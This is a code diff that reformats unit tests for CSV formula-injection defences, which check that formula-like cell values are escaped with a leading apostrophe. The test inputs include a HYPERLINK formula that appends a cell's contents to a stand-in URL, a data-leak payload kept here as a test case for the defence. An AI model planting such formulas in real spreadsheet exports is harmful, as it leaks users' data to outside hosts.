@@ -3,7 +3,16 @@ import { csvField, csvLine, formulaSafe, startsLikeFormula } from './spreadsheet
 
 describe('startsLikeFormula and formulaSafe', () => {
   it('catches the formula starts = + - @, tab, carriage return and their full-width forms', () => {
-    for (const text of ['=HYPERLINK("http://x.test/"&A3,"klik")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '＝1+1', '＠SUM(A1)']) {
+    for (const text of [
+      '=HYPERLINK("http://x.test/"&A3,"klik")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1:A2)',
+      '\t=1',
+      '\r=1',
+      '＝1+1',
+      '＠SUM(A1)',
+    ]) {
       expect(startsLikeFormula(text)).toBe(true);
       expect(formulaSafe(text)).toBe(`'${text}`);
     }
@@ -29,6 +38,6 @@ describe('csvField', () => {
     expect(csvField('=HYPERLINK("http://x.test/",A3)')).toBe('"\'=HYPERLINK(""http://x.test/"",A3)"');
     expect(csvField('@SUM(1)')).toBe("'@SUM(1)");
     expect(csvField('\r=1')).toBe('"\'\r=1"');
-    expect(csvLine(['=1+1', 'Satu, Dua', 7, null])).toBe("'=1+1,\"Satu, Dua\",7,");
+    expect(csvLine(['=1+1', 'Satu, Dua', 7, null])).toBe('\'=1+1,"Satu, Dua",7,');
   });
 });
